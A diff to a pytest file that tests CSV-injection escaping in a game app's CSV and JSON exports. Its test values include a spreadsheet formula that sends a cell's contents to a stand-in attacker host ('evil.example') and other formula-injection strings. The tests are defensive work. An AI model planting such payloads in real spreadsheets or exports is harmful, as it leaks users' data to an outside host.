@@ -139,6 +139,27 @@ def test_the_csv_holds_one_row_per_game_with_the_moves_in_one_column(client_logg
     assert rows[games["ai"].pk]["opponent"] == "AI (easy)"
 
 
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\rx"]
+)
+def test_a_csv_cell_that_would_start_a_formula_reads_as_text(client_logged_in, user, django_user_model, name):
+    """An opponent's name a spreadsheet would run as a formula starts with a
+    single quote in the CSV (OWASP's advice); the JSON keeps it as it is."""
+    opponent = django_user_model.objects.create_user(username=name, password="x")
+    game = human_game(user, opponent, X_WINS)
+
+    _, text = _download(client_logged_in, CSV_URL)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["id"] == str(game.pk)
+    assert row["opponent"] == "'" + name
+    _, text = _download(client_logged_in, JSON_URL)
+    assert json.loads(text)["games"][0]["opponent"] == name
+
+
+def test_harmless_csv_cells_are_left_alone():
+    assert [exports.csv_cell(value) for value in ("bob", "4 0 8", 5, None, "a=b")] == ["bob", "4 0 8", 5, None, "a=b"]
+
+
 def test_a_player_without_games_gets_valid_empty_files(client_logged_in):
     _, text = _download(client_logged_in, JSON_URL)
     assert json.loads(text)["games"] == []
